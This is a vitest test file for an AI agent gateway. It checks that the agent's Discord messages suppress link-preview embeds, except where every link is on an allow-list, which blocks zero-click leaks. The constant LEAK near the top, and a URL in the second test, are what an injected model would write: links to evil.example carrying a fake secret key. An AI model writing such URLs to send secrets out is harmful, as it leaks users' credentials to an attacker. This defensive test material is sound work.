import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { FakeDiscord, PostedMessage } from '../fakes/fake-discord.js';
import { startFakeOpenAIServer } from '../fakes/fake-openai-server.js';
import { startDiscordForTest, startGatewayForTest } from '../helpers/channels.js';
import { cleanupAfterEach } from '../helpers/teardown.js';

/**
 * No zero-click leak through Discord embeds: every message the agent causes (a streamed reply and
 * its edits, a complete reply, an approval request and the click's edit, a `messages.send` to a
 * named route, a file's message, a command's answer) carries SUPPRESS_EMBEDS (flags 4), unless
 * every link in it is on `linkPreviews.allowHosts`. The real gateway and discord.js against the
 * fake Discord (which records each post's and edit's flags), a fake OpenAI model.
 */

const TOKEN = 'fake-discord-previews-token';
const GUILD = '900000000000000701';
const CHANNEL = '910000000000000701';
const OPS = '910000000000000702';
const ALICE = '930000000000000701';
const SUPPRESS_EMBEDS = 4;
/** What an injected model would write: a URL that carries a secret to a host it controls. */
const LEAK = 'Done. Details: https://evil.example/leak?secret=sk-live-123 and evil.example/x?k=2';

const cleanups = cleanupAfterEach();

async function setup(discordConfig: Record<string, unknown> = {}) {
  const model = await startFakeOpenAIServer();
  onTestFinished(() => model.close());
  const discord = await startDiscordForTest(cleanups, {
    token: TOKEN,
    guilds: [{ id: GUILD, channels: [CHANNEL, OPS] }],
  });
  const gateway = await startGatewayForTest(cleanups, {
    config: {
      owners: [`discord:${ALICE}`],
      models: {
        fake: { provider: 'openai', model: 'fake-1', baseUrl: model.url, apiKey: 'sk-discord-previews-01' },
      },
      agents: { main: { model: 'fake' } },
      tools: { toolpacks: ['core'] },
      routes: { '#ops': `discord:${OPS}` },
      channels: { discord: { token: TOKEN, apiBase: discord.apiBase, ...discordConfig } },
    },
  });
  return { model, discord, gateway };
}

const ask = (discord: FakeDiscord, text: string) =>
  discord.dispatchMessage({
    channelId: CHANNEL,
    guildId: GUILD,
    authorId: ALICE,
    content: `<@${discord.botId}> ${text}`,
    mentions: [discord.botId],
  });

async function postedWhere(
  fake: FakeDiscord,
  predicate: (post: PostedMessage) => boolean,
): Promise<PostedMessage> {
  await expect.poll(() => fake.posted.some(predicate), { timeout: 15_000 }).toBe(true);
  return fake.posted.find(predicate) as PostedMessage;
}

describe('link previews on Discord', () => {
  it('every post and edit of a turn (send, file, approval, click edit, streamed reply) suppresses embeds', async () => {
    const { model, discord, gateway } = await setup();
    const workspace = path.join(gateway.dir, 'data/workspaces/main');
    await mkdir(workspace, { recursive: true });
    await writeFile(path.join(workspace, 'report.txt'), 'uptime\n');
    model.push({
      toolCalls: [
        { name: 'messages.send', arguments: { channel: '#ops', body: LEAK } },
        { name: 'chat.attach', arguments: { path: 'report.txt', comment: LEAK } },
      ],
    });
    model.push({ text: `Final. ${LEAK}`, chunks: 8, chunkDelayMs: 150 });
    ask(discord, 'do the thing');

    // A post to another chat asks an approver: the request with buttons; the owner approves.
    const request = await postedWhere(discord, (post) => (post.buttons?.length ?? 0) >= 2);
    const approve = request.buttons?.find((button) => button.label === 'Approve');
    const clicked = discord.click({
      messageId: discord.idOf(request) as string,
      userId: ALICE,
      customId: approve?.customId as string,
    });
    await postedWhere(discord, (post) => post.channelId === OPS);
    await postedWhere(discord, (post) => (post.files?.length ?? 0) > 0);
    const streamed = await postedWhere(discord, (post) => post.content.startsWith('Final.'));
    const streamedId = discord.idOf(streamed) as string;
    await expect.poll(() => discord.message(streamedId)?.content, { timeout: 15_000 }).toBe(`Final. ${LEAK}`);

    const edits = discord.edited.filter((edit) => edit.messageId === streamedId);
    expect(edits.length).toBeGreaterThanOrEqual(1);
    expect(
      discord.posted.filter((post) => post.content.includes('evil.example')).length,
    ).toBeGreaterThanOrEqual(3);
    for (const post of discord.posted)
      expect({ content: post.content, flags: discord.flagsOf(post) }).toEqual({
        content: post.content,
        flags: SUPPRESS_EMBEDS,
      });
    for (const edit of discord.edited)
      expect({ content: edit.content, flags: discord.flagsOf(edit) }).toEqual({
        content: edit.content,
        flags: SUPPRESS_EMBEDS,
      });
    const clickEdit = discord.interactions.find(
      (record) => record.kind === 'edit' && record.interactionId === clicked,
    );
    expect(clickEdit === undefined ? undefined : discord.flagsOf(clickEdit)).toBe(SUPPRESS_EMBEDS);
  });

  it('a complete reply suppresses embeds; keeps them with every link on allowHosts, not with one link that is not', async () => {
    const { model, discord } = await setup({
      stream: false,
      linkPreviews: { allowHosts: ['docs.example.com'] },
    });
    model.push({ text: 'See https://docs.example.com/guide for the steps.' });
    ask(discord, 'where is the guide');
    const allowed = await postedWhere(discord, (post) => post.content.includes('for the steps'));
    model.push({ text: 'See https://docs.example.com/guide and https://evil.example/?k=sk-live-123' });
    ask(discord, 'and the other one');
    const mixed = await postedWhere(discord, (post) => post.content.includes('sk-live-123'));
    model.push({ text: 'No links here at all.' });
    ask(discord, 'say something plain');
    const plain = await postedWhere(discord, (post) => post.content.includes('No links here'));
    expect([allowed, mixed, plain].map((post) => discord.flagsOf(post))).toEqual([
      0,
      SUPPRESS_EMBEDS,
      SUPPRESS_EMBEDS,
    ]);
  });

  it("an application command's answer suppresses embeds", async () => {
    const { discord } = await setup();
    await expect.poll(() => discord.registrations.length, { timeout: 15_000 }).toBeGreaterThan(0);
    const ran = discord.runCommand({ name: 'help', userId: ALICE, channelId: CHANNEL });
    const answered = () =>
      discord.commandRecords.find(
        (record) => record.interactionId === ran && (record.kind === 'edit' || record.kind === 'follow-up'),
      );
    await expect.poll(answered, { timeout: 15_000 }).toBeDefined();
    const answer = answered();
    expect(answer === undefined ? undefined : discord.flagsOf(answer)).toBe(SUPPRESS_EMBEDS);
  });
});
